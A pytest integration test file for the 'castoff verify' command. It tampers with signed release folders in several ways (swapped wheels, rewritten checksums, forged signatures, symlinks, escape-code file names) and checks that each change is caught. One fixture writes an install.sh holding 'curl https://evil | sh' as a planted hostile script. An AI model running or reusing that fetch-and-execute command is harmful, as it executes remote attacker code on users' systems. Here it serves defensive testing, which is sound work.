"""`castoff verify` on release folders an attacker controls: downloads, another job's artifacts.

The trust root is what is signed (SHA256SUMS, the provenance), checked with public keys only;
manifest.json vouches for nothing. Every file in the folder is accounted for.
"""

from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import EXAMPLE, HERE
from tests.integration.conftest import castoff

CONFIG = str(EXAMPLE / "pyproject.toml")
PUBLIC = ("keys.json", "minisign.pub", "allowed_signers")


@pytest.fixture
def public_keys(signed: tuple[Path, Path], tmp_path: Path) -> Path:
    """Return a key folder holding only the public half of the throwaway keys."""
    folder = tmp_path / "public-keys"
    folder.mkdir()
    for name in PUBLIC:
        shutil.copy(signed[1] / name, folder / name)
    return folder


def _manifest(folder: Path) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((folder / "manifest.json").read_text())
    return data


def _verify(folder: Path, keys: Path, *extra: str) -> tuple[int, dict[str, Any], str]:
    result = castoff(
        "verify", "--config", CONFIG, str(folder), "--keys", str(keys), "--json", *extra
    )
    assert "Traceback" not in result.stderr
    doc: dict[str, Any] = json.loads(result.stdout) if result.stdout.strip() else {}
    return result.returncode, doc, " ".join(result.stderr.split())


def _problems(doc: dict[str, Any]) -> set[tuple[str, str | None]]:
    return {(p["file"], p["backend"]) for p in doc.get("problems", [])}


def _wheels(folder: Path) -> list[Path]:
    return sorted(folder.glob("*.whl"))


def test_an_untouched_release_verifies_with_public_keys_only(
    release: Path, public_keys: Path
) -> None:
    """The baseline: every file accounted for, every signature checked."""
    code, doc, err = _verify(release, public_keys)
    assert code == 0, err
    assert doc["problems"] == []
    assert set(doc["unsigned_metadata"]) == {"manifest.json", ".castoff.json"}
    assert len(doc["artifacts"]) == 61  # every release file, the sdist and provenance included


def test_a_swapped_wheel_whose_manifest_entry_was_removed_is_caught(
    release: Path, public_keys: Path
) -> None:
    """The manifest is not signed: removing the wheel from it hides nothing."""
    wheel = _wheels(release)[0]
    wheel.write_bytes(wheel.read_bytes() + b"evil")
    manifest = _manifest(release)
    manifest["artifacts"] = [a for a in manifest["artifacts"] if a["name"] != wheel.name]
    (release / "manifest.json").write_text(json.dumps(manifest))
    code, doc, err = _verify(release, public_keys)
    assert code == 11
    problems = _problems(doc)
    assert (wheel.name, None) in problems  # its bytes against SHA256SUMS and the provenance
    assert ("manifest.json", None) in problems  # the manifest no longer lists a signed file
    assert wheel.name in err


def test_a_file_nothing_signed_names_is_reported(release: Path, public_keys: Path) -> None:
    """An extra install script beside the release: not part of it, and said so."""
    (release / "install.sh").write_text("curl https://evil | sh\n")
    manifest = _manifest(release)
    code, doc, err = _verify(release, public_keys)
    assert code == 11
    assert _problems(doc) == {("install.sh", None)}
    assert "is not part of the signed release" in err
    assert _manifest(release) == manifest


def test_rewritten_checksums_fail_their_signatures(release: Path, public_keys: Path) -> None:
    """The attacker swaps a wheel and rewrites SHA256SUMS and the manifest to match."""
    wheel = _wheels(release)[0]
    wheel.write_bytes(wheel.read_bytes() + b"evil")
    digest = hashlib.sha256(wheel.read_bytes()).hexdigest()
    sums = release / "SHA256SUMS"
    lines = [
        f"{digest}  {wheel.name}" if line.endswith(f"  {wheel.name}") else line
        for line in sums.read_text().splitlines()
    ]
    sums.write_text("\n".join(lines) + "\n")
    code, doc, _ = _verify(release, public_keys)
    assert code == 11
    problems = _problems(doc)
    assert ("SHA256SUMS.minisig", "minisign") in problems
    assert ("SHA256SUMS.sig", "ssh") in problems


def test_a_removed_provenance_means_an_unsigned_release(release: Path, public_keys: Path) -> None:
    """Without the provenance and its signatures the release is not one castoff signed."""
    for path in release.glob("*.intoto.json*"):
        path.unlink()
    code, _, err = _verify(release, public_keys)
    assert code == 11
    assert "missing: the release was not signed" in err


@pytest.mark.parametrize(
    ("damage", "needle"),
    [
        (lambda p: p.write_bytes(p.read_bytes()[:100]), "not JSON"),
        (lambda p: p.write_text("[]"), "should be an object"),
        (lambda p: p.write_bytes(b"\xff\xfe"), "not UTF-8"),
    ],
)
def test_a_damaged_provenance_is_named(
    release: Path, public_keys: Path, damage: Any, needle: str
) -> None:
    """Truncated, list-shaped or binary: a problem naming the statement, never a crash."""
    statement = next(release.glob("*.intoto.json"))
    damage(statement)
    code, _, err = _verify(release, public_keys)
    assert code == 11
    assert statement.name in err
    assert needle in err


@pytest.mark.parametrize(
    ("text", "needle"),
    [("[]", "should be an object"), ('{"kind": "release"', "not JSON"), ("\xff", "not UTF-8")],
)
def test_a_damaged_manifest_is_named_but_trust_comes_from_the_signed_files(
    release: Path, public_keys: Path, text: str, needle: str
) -> None:
    """A broken manifest.json is one problem; the signed files still verify on their own."""
    (release / "manifest.json").write_bytes(text.encode("latin-1"))
    code, doc, err = _verify(release, public_keys)
    assert code == 11
    assert _problems(doc) == {("manifest.json", None)}
    assert needle in err


def test_a_release_without_its_manifest_verifies(release: Path, public_keys: Path) -> None:
    """The manifest is a convenience: the release verifies without it."""
    (release / "manifest.json").unlink()
    code, _, err = _verify(release, public_keys)
    assert code == 0, err


@pytest.mark.parametrize(
    ("raw", "needle"),
    [(b"\xff\xfe\x00", "not UTF-8"), (b"not a checksum line\n", "line 1 is not")],
)
def test_damaged_checksums_are_named(
    release: Path, public_keys: Path, raw: bytes, needle: str
) -> None:
    """SHA256SUMS that is not sha256sum output: named, with its line."""
    (release / "SHA256SUMS").write_bytes(raw)
    code, _, err = _verify(release, public_keys)
    assert code == 11
    assert "SHA256SUMS" in err
    assert needle in err


def test_a_link_in_the_release_folder_is_refused(release: Path, public_keys: Path) -> None:
    """A release holds plain files: a link (to anything) is named."""
    wheel = _wheels(release)[0]
    target = release.parent / "elsewhere.whl"
    wheel.rename(target)
    wheel.symlink_to(target)
    code, _, err = _verify(release, public_keys)
    assert code == 11
    assert f"{wheel.name}: is a symbolic link" in err


def test_verify_of_a_file_is_an_error(release: Path, public_keys: Path) -> None:
    """DIST that is not a folder."""
    code, _, err = _verify(release / "SHA256SUMS", public_keys)
    assert code == 11
    assert "not a folder" in err


def test_a_github_download_verifies_with_public_keys_only(
    release: Path, public_keys: Path, tmp_path: Path
) -> None:
    """Exactly the assets a GitHub release has, flat in one folder: it verifies."""
    download = tmp_path / "download"
    download.mkdir()
    manifest = _manifest(release)
    for artifact in manifest["artifacts"]:
        if "github" in artifact["destinations"]:
            for name in (artifact["name"], *(s["name"] for s in artifact["signatures"])):
                shutil.copy(release / name, download / name)
    shutil.copy(release / "manifest.json", download / "manifest.json")
    code, doc, err = _verify(download, public_keys)
    assert code == 0, err
    assert doc["unsigned_metadata"] == ["manifest.json"]


def test_a_github_download_without_the_index_only_wheels_verifies(
    out_dir: Path, first_build: dict[str, Any], tmp_path: Path
) -> None:
    """With wheels on the index only, a GitHub download lacks them: signed as not for GitHub."""
    project = tmp_path / "project"
    shutil.copytree(EXAMPLE, project, ignore=shutil.ignore_patterns("target"))
    pyproject = project / "pyproject.toml"
    pyproject.write_text(pyproject.read_text().replace("wheels = true", "wheels = false"))
    config = str(pyproject)
    assert first_build["targets"]
    folder = tmp_path / "dist"
    assembled = castoff("assemble", "--config", config, *HERE, str(out_dir), "--out", str(folder))
    assert assembled.returncode == 0, assembled.stderr
    assert castoff("keygen", "--config", config, str(tmp_path / "keys")).returncode == 0
    signed = castoff("sign", "--config", config, str(folder), "--keys", str(tmp_path / "keys"))
    assert signed.returncode == 0, signed.stderr
    download = tmp_path / "download"
    download.mkdir()
    manifest = _manifest(folder)
    for artifact in manifest["artifacts"]:
        if "github" in artifact["destinations"]:
            for name in (artifact["name"], *(s["name"] for s in artifact["signatures"])):
                shutil.copy(folder / name, download / name)
    result = castoff(
        "verify", "--config", config, str(download), "--keys", str(tmp_path / "keys"), "--json"
    )
    assert result.returncode == 0, result.stderr
    absent = json.loads(result.stdout)["absent"]
    assert len(absent) == 15  # the fifteen wheels bound for the index only
    assert all("goes to pypi only" in a["why"] for a in absent)


def test_signatures_no_configured_backend_makes_are_refused(
    release: Path, public_keys: Path
) -> None:
    """A forged `.asc` and PEP 740 attestation, listed in the manifest: verify refuses both."""
    wheel = _wheels(release)[0]
    forged = {f"{wheel.name}.asc": b"forged", f"{wheel.name}.publish.attestation": b"{}"}
    manifest = _manifest(release)
    for artifact in manifest["artifacts"]:
        if artifact["name"] == wheel.name:
            artifact["signatures"] += [
                {"backend": "gpg", "name": name, "sha256": hashlib.sha256(data).hexdigest()}
                for name, data in forged.items()
                if name.endswith(".asc")
            ]
    for name, data in forged.items():
        (release / name).write_bytes(data)
    (release / "manifest.json").write_text(json.dumps(manifest))
    code, doc, err = _verify(release, public_keys)
    assert code == 11
    problems = _problems(doc)
    assert (f"{wheel.name}.asc", None) in problems
    assert (f"{wheel.name}.publish.attestation", None) in problems
    assert ("manifest.json", None) in problems
    assert "which no configured backend makes" in err


def test_a_release_of_another_version_is_named_and_refused_unless_asked_for(
    release: Path, public_keys: Path, tmp_path: Path
) -> None:
    """An older signed release served as the current one: verify says which version it is."""
    project = tmp_path / "project"
    shutil.copytree(EXAMPLE, project, ignore=shutil.ignore_patterns("target"))
    cargo = project / "Cargo.toml"
    cargo.write_text(cargo.read_text().replace('version = "0.1.0"', 'version = "0.2.0"', 1))
    config = str(project / "pyproject.toml")
    args = ("verify", "--config", config, str(release), "--keys", str(public_keys))
    newer = castoff(*args)
    assert newer.returncode == 11
    assert "is of castoff-hello 0.1.0, not castoff-hello 0.2.0" in " ".join(newer.stderr.split())
    older = castoff(*args, "--release-version", "0.1.0")
    assert older.returncode == 0, older.stderr
    assert "verified castoff-hello 0.1.0" in older.stderr


def test_control_characters_in_file_names_never_reach_the_terminal(
    release: Path, public_keys: Path
) -> None:
    """A file named with escape codes is reported with them escaped."""
    (release / "\x1b[2J\x1b[32mall good\x1b[0m").write_text("x")
    code, _, _ = _verify(release, public_keys)
    assert code == 11
    result = castoff("verify", "--config", CONFIG, str(release), "--keys", str(public_keys))
    assert "\x1b[2J" not in result.stderr
    assert "\\x1b[2J" in result.stderr
